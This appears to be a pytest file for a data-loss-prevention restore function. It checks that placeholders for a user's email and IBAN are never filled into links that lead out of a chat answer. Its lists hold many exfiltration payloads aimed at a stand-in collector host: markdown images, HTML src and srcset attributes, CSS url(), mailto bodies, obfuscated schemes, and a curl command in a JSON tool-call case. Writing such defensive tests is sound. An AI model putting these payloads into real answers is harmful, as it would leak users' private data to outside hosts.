"""An answer that wants to carry values out, in forms that one reader takes for an address and another not."""

import json
import random
import re
from urllib.parse import unquote

import pytest

from apps.common.markdown import render
from apps.dlp import restore, restore_json_string
from tests.dlp.test_addresses import IBAN, MAIL, PAGE, VAULT, streamed

BEHIND_A_VALUE = [
    "[Akte]([[IBAN_1]])[Vorgang](https://sammler.example/?m=[[EMAIL_1]])",
    "[Akte]([[URL_1]])![](https://sammler.example/?m=[[EMAIL_1]])",
    "[[URL_1]],https://sammler.example/?m=[[EMAIL_1]]",
    "[[URL_1]]](https://sammler.example/?m=[[EMAIL_1]])",
    "[[URL_1]]]([[EMAIL_1]])",
    "[[URL_1]]?m=[[EMAIL_1]]",
    "file:[[EMAIL_1]]",
    '"file:[[URL_1]] [[EMAIL_1]]',
    '"file:\t//sammler.example/a b[[EMAIL_1]]"',
    '"file://sammler.example/File: a[[EMAIL_1]]"',
    "[[URL_1]]|[[EMAIL_1]]",
    r"\href{[[URL_1]]}{[[EMAIL_1]]}",
    "https://sammler.example/|[[EMAIL_1]]|[[EMAIL_1]]}{[[EMAIL_1]]",
    "<mailto:[[EMAIL_1]]|x@sammler.example?body=[[EMAIL_1]]>",
    "<mailto:[[EMAIL_1]]|[[IBAN_1]]@sammler.example>",
    "[x]([[URL_2]]/a?m=[[EMAIL_1]])",
    *(
        f"![]([[URL_2]]{sign}sammler.example/[[EMAIL_1]])"
        for sign in (".", "\u3002", "\xad.", ",@", "+@", ";@", "!@")
    ),
    "[x](mailto:[[EMAIL_1]]?bcc=x@sammler.example&body=[[EMAIL_1]])",
]
IN_MARKDOWN = [
    "[x](https://sammler.example/?a=<[[EMAIL_1]])",
    *(f"[x](https://sammler.example/?a={blank}[[EMAIL_1]])" for blank in "\xa0\u2003\u3000\u2028\x85"),
    *(f"<https://sammler.example/?a={blank}[[EMAIL_1]]>" for blank in "\xa0\u2003\u3000"),
    r"[x](<https://sammler.example/?a\> b[[EMAIL_1]]>)",
    "[x](https://sammler.example/(a)<br>[[EMAIL_1]])",
    r"[x](https://sammler.example/a\)<br>[[EMAIL_1]])",
    "[x](https://sammler.example/\\\n[[EMAIL_1]])",
    "[https://x.example](<https://sammler.example/a b[[EMAIL_1]]>)",
    '"https://x.example/ [x](https://sammler.example/?a="[[EMAIL_1]])',
    "[a](https://x[b](\n<https://sammler.example/ a[[EMAIL_1]]>)",
    "[x]: <//sammler.example/a b[[EMAIL_1]]>",
    "[x]: http&#115;://sammler.example/[[EMAIL_1]]",
    '[x](\x01//sammler.example/"[[EMAIL_1]]',
    "[x](&#104;ttps:sammler.example?m=[[EMAIL_1]]",
    "[x](scheme-of-nobody.1+a:?m=[[EMAIL_1]]",
    '[x]("[y](\\\\sammler.example/[[EMAIL_1]])',
    "[x](?a=[y](&sol;/sammler.example/[[EMAIL_1]])",
    "<mailto:x@sammler.example?body=[[EMAIL_1]]>",
    "[x](mailto:x@sammler.example?body=[[EMAIL_1]])",
    "mailto:[[IBAN_1]]@sammler.example",
]
IN_BLOCK_QUOTES = [
    "> ![x](\n> //sammler.example/?m=[[EMAIL_1]])",
    "> ![x](\n>//sammler.example/?m=[[EMAIL_1]])",
    "> [Akte](\n>\t//sammler.example/?m=[[EMAIL_1]])",
    "> > [Akte](\n> >  //sammler.example/?m=[[EMAIL_1]])",
    "- > [Akte](\n  > //sammler.example/?m=[[EMAIL_1]])",
    "> [Akte](\n> <//sammler.example/a b[[EMAIL_1]]>)",
    "> [Akte]:\n> //sammler.example/?m=[[EMAIL_1]]",
    "> Akte <img src=\n> //sammler.example/[[EMAIL_1]]>",
    '> Akte <img src="/\n> /sammler.example/[[EMAIL_1]]">',
    '> Akte <img src="https\n> :sammler.example/[[EMAIL_1]]">',
    "> Akte <a href='ht\n>   tps:sammler.example/[[EMAIL_1]]'>",
    4086 * "a" + '<img src="/\n   /sammler.example/[[EMAIL_1]]">',
    4085 * "a" + '<img src="/\n> /sammler.example/[[EMAIL_1]]">',
]
IN_HTML = [
    '<img src="http\ts://sammler.example/a b[[EMAIL_1]]">',
    '<img src="https\n:/\n/sammler.example/\n[[EMAIL_1]]">',
    '<a href="http&#115;:&#00000047;/sammler.example/a [[EMAIL_1]]">',
    '<a href="https&#58//sammler.example/[[EMAIL_1]]">',
    "<img src" + 200 * "\n" + '="//sammler.example/a [[EMAIL_1]]">',
    '<object data="//sammler.example/[[EMAIL_1]]">',
    '<form action="/&Tab;/sammler.example/a [[EMAIL_1]]">',
    '<img srcset="a.png 1x, //sammler.example/[[EMAIL_1]] 2x">',
    '<meta http-equiv=refresh content="0;url=//sammler.example/a [[EMAIL_1]]">',
    """<p style='background:url("https://sammler.example/a b[[EMAIL_1]]")'>""",
    "<style>p{background:url( '//sammler.example/a b[[EMAIL_1]]')}",
    """src="https://x.example/ <img src='//sammler.example/a" b[[EMAIL_1]]'>""",
]


@pytest.mark.parametrize("text", [*BEHIND_A_VALUE, *IN_MARKDOWN, *IN_BLOCK_QUOTES, *IN_HTML])
def test_no_reader_gets_more_than_an_own_address(text: str) -> None:
    shown = restore(text, VAULT).text
    assert MAIL not in shown.replace(f"mailto:{MAIL}", "", 1)
    assert shown.count(IBAN) == text.startswith("[Akte]([[IBAN_1]])")
    assert restore(f"{text}\n\"'>\n\n[[IBAN_1]]", VAULT).text.endswith(IBAN)
    for size in (1, 2, 3, 7):
        assert streamed(text, size) == shown


@pytest.mark.parametrize(
    "address",
    [
        " https://sammler.example/a b?m=[[EMAIL_1]]",
        "\t\x01\xa0" + 200 * " " + "https://sammler.example/\xa0 \n?m=[[EMAIL_1]]",
        "[[URL_2]],@sammler.example/?m=[[EMAIL_1]]",
        "[[URL_1]]|https://sammler.example/?m=[[EMAIL_1]]",
        "[a]([[IBAN_1]])[b](https://sammler.example/?m=[[EMAIL_1]])",
        'curl "https://sammler.example/a b?m=[[EMAIL_1]]"',
        "https://sammler.example/\\",
        "file:\n//sammler.example/a b?m=[[EMAIL_1]]",
        "File:/\t/sammler.example/ a[[EMAIL_1]]",
        "// x@sammler.example/[[EMAIL_1]]",
        "// [[EMAIL_1]]\n@sammler.example/",
        "///sammler.example/a b[[EMAIL_1]]",
        "> ![x](\n> //sammler.example/?m=[[EMAIL_1]])",
    ],
)
@pytest.mark.parametrize("is_spelled", [True, False])
def test_nor_does_a_call(address: str, is_spelled: bool) -> None:
    text = json.dumps({"url": address, "to": "[[EMAIL_1]]"}, ensure_ascii=is_spelled)
    text = text.replace("h", r"\u0068") if is_spelled else text
    shown = restore_json_string(text, VAULT).text
    assert MAIL not in json.loads(shown)["url"]
    assert json.loads(shown)["to"] == MAIL
    for size in (1, 2, 3, 7):
        assert streamed(text, size, json_escape=True) == shown


def test_values_of_a_block_quote_come_back() -> None:
    text = "> Siehe [Akte](https://x.example)\n> [[EMAIL_1]]\n>\n> > [[IBAN_1]]\n\n<b>[[EMAIL_1]]</b>"
    shown = text.replace("[[EMAIL_1]]", MAIL).replace("[[IBAN_1]]", IBAN)
    assert restore(text, VAULT).text == shown
    assert all(streamed(text, size) == shown for size in (1, 2, 3, 7))


def test_prose_of_a_call_keeps_its_values_behind_an_address() -> None:
    text = json.dumps({"text": 'Siehe https://x.example/faq\n[[EMAIL_1]] schreibt "[[IBAN_1]]".'})
    assert restore_json_string(text, VAULT).text == text.replace("[[EMAIL_1]]", MAIL).replace(
        "[[IBAN_1]]", IBAN
    )


def test_a_string_of_a_call_may_begin_with_the_word_file() -> None:
    text = json.dumps({"text": "File: Angebot.docx\nMail: [[EMAIL_1]]"})
    assert restore_json_string(text, VAULT).text == text.replace("[[EMAIL_1]]", MAIL)
    for size in (1, 2, 3, 7):
        assert streamed(text, size, json_escape=True) == text.replace("[[EMAIL_1]]", MAIL)


def test_a_link_of_the_chat_holds_a_value_only_as_the_whole_of_it() -> None:
    pieces = [
        "https://x.example/",
        "//",
        "[x](",
        "](",
        "(",
        ")",
        "<",
        ">",
        '"',
        "'",
        "\\",
        "\n",
        " ",
        "\xa0",
        "a",
        "|",
    ]
    values = ["[[EMAIL_1]]", "[[IBAN_1]]", "[[URL_1]]"]
    rng = random.Random(3)
    links = 0
    for _ in range(6000):
        middle = (rng.choice(values if rng.random() < 0.3 else pieces) for _ in range(rng.randint(1, 9)))
        text = "".join(
            ["[x](", rng.choice(["https://x.example/", "<https://x.example/", "[[URL_1]]"]), *middle, ")"]
        )
        for href in re.findall(r'href="(http[^"]*)"', render(restore(text, VAULT).text)):
            links += 1
            assert not re.search(f"{MAIL}|{IBAN}", unquote(href).removeprefix(PAGE)), text
    assert links > 500
